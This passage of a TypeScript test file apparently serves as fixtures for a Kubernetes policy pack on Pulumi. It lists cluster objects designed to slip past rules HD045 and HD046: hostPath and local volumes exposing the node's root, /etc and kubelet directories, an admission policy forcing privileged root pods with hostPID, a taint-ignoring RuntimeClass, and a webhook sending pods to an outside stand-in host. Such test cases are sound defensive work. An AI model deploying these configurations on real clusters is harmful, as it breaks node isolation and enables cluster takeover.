      const fake = new pulumi.ComponentResource('cleanimg:index:EnvConfig', `${id}-fake`, {});
      return [fake, new k8s.core.v1.Secret(`${id}-secret`, { metadata: { name: 'db2', annotations: { [SECRET_SOURCE_ANNOTATION]: SECRET_SOURCE_PULUMI } }, data: { password: Buffer.from('hunter2').toString('base64') } }, { parent: fake })];
    },
  },
];

/** A PersistentVolume on the node's root filesystem (HD045), with what a pod needs to bind it. */
const nodeRootVolume = (id: string, name: string, source: object) => new k8s.core.v1.PersistentVolume(`${id}-pv`, {
  metadata: { name }, spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], storageClassName: '', ...source },
});
const claimSpec = (volumeName: string) => ({ accessModes: ['ReadWriteOnce'], storageClassName: '', volumeName, resources: { requests: { storage: '1Gi' } } });
/** A hardened raw Deployment that mounts `volume` at /host (its pod spec passes every pod rule). */
const mountingAtHost = (id: string, volume: object) => new k8s.apps.v1.Deployment(`${id}-dep`, specOf(bent((p, c) => {
  p.volumes.push({ name: 'host', ...volume });
  c.volumeMounts.push({ name: 'host', mountPath: '/host' });
})) as never);

/** A MutatingAdmissionPolicy that makes every pod of a namespace privileged, with hostPID (HD046). */
const LOOSEN_PODS = {
  matchConstraints: { resourceRules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }] },
  failurePolicy: 'Ignore', reinvocationPolicy: 'IfNeeded',
  mutations: [{ patchType: 'ApplyConfiguration', applyConfiguration: { expression: 'Object{spec: Object.spec{hostPID: true, containers: [Object.spec.containers{name: "app", securityContext: Object.spec.containers.securityContext{privileged: true, runAsUser: 0}}]}}' } }],
};

/** Objects beside the pods that hand a compliant pod the node's filesystem (HD045), or rewrite or re-place it at admission (HD046). */
const clusterObjectAttacks: PulumiAttack[] = [
  {
    name: 'a hostPath PersistentVolume of the node\'s root, bound by a claim a hardened Deployment mounts', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD045',
    build: (id) => [
      nodeRootVolume(id, 'node-root', { hostPath: { path: '/', type: 'Directory' } }),
      new k8s.core.v1.PersistentVolumeClaim(`${id}-pvc`, { metadata: { name: 'node-root' }, spec: claimSpec('node-root') }),
      mountingAtHost(id, { persistentVolumeClaim: { claimName: 'node-root' } }),
    ],
  },
  {
    name: 'a hostPath PersistentVolume bound by an ephemeral volume\'s claim template (no PVC object)', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD045',
    build: (id) => [
      nodeRootVolume(id, 'node-root-2', { hostPath: { path: '/' } }),
      mountingAtHost(id, { ephemeral: { volumeClaimTemplate: { spec: claimSpec('node-root-2') } } }),
    ],
  },
  {
    name: 'a local PersistentVolume whose path is the node\'s /etc', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD045',
    build: (id) => nodeRootVolume(id, 'node-etc', { local: { path: '/etc' }, nodeAffinity: { required: { nodeSelectorTerms: [{ matchExpressions: [{ key: 'kubernetes.io/hostname', operator: 'Exists' }] }] } } }),
  },
  {
    name: 'a PersistentVolumePatch that adds a hostPath source', category: 'patches', target: 'raw', stage: 'policy-pack', rule: 'HD045',
    build: (id) => new k8s.core.v1.PersistentVolumePatch(`${id}-patch`, { metadata: { name: 'data' }, spec: { hostPath: { path: '/var/lib/kubelet' } } }),
  },
  {
    name: 'a RuntimeClass that adds a toleration of every taint to the hardened Deployment naming it', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD046',
    build: (id) => [
      new k8s.node.v1.RuntimeClass(`${id}-rc`, { metadata: { name: 'anywhere' }, handler: 'runc', scheduling: { nodeSelector: { 'node-role.kubernetes.io/control-plane': '' }, tolerations: [{ operator: 'Exists' }] } }),
      new k8s.apps.v1.Deployment(`${id}-dep`, specOf(bent((p) => { p.runtimeClassName = 'anywhere'; })) as never),
    ],
  },
  {
    name: 'a MutatingAdmissionPolicy and binding that make a namespace\'s pods privileged', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD046',
    build: (id) => [
      new k8s.apiextensions.CustomResource(`${id}-map`, { apiVersion: 'admissionregistration.k8s.io/v1beta1', kind: 'MutatingAdmissionPolicy', metadata: { name: 'loosen' }, spec: LOOSEN_PODS }),
      new k8s.apiextensions.CustomResource(`${id}-mapb`, { apiVersion: 'admissionregistration.k8s.io/v1beta1', kind: 'MutatingAdmissionPolicyBinding', metadata: { name: 'loosen' }, spec: { policyName: 'loosen', matchResources: { namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'team' } } } } }),
    ],
  },
  {
    name: 'a typed MutatingWebhookConfiguration that sends every pod to an outside webhook', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD046',
    build: (id) => new k8s.admissionregistration.v1.MutatingWebhookConfiguration(id, { metadata: { name: 'loosen' }, webhooks: [{
      name: 'loosen.example.com', admissionReviewVersions: ['v1'], sideEffects: 'None', failurePolicy: 'Ignore', clientConfig: { url: 'https://loosen.example.com/mutate' },
      rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }],
    }] }),
  },
];

export const PULUMI_FACE_ATTACKS: readonly PulumiAttack[] = [...typeAttacks, ...jsAttacks, ...valueAttacks, ...programAttacks, ...packAttacks, ...clusterObjectAttacks];
